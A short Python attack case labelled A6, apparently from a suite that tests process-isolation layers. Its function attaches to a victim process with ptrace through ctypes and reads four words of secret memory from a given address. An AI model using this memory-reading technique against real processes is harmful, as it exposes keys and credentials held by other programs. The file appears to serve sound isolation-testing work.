# A6: stops another process as a debugger and reads its memory word by word
# Without layers: may succeed
import sys

os = sys.modules["os"]

ATTACH, DETACH, PEEKDATA = 16, 17, 2
WALL = 0x40000000


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, victim = ctypes.CDLL(None), facts["victim"]
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(ATTACH, victim, None, None) != 0:
        return False
    os.waitpid(victim, WALL)
    places = [ctypes.c_void_p(facts["secret_address"] + 8 * number) for number in range(4)]
    words = [ctypes.c_long(libc.ptrace(PEEKDATA, victim, place, None)) for place in places]
    libc.ptrace(DETACH, victim, None, None)
    return b"".join(map(bytes, words)).decode()
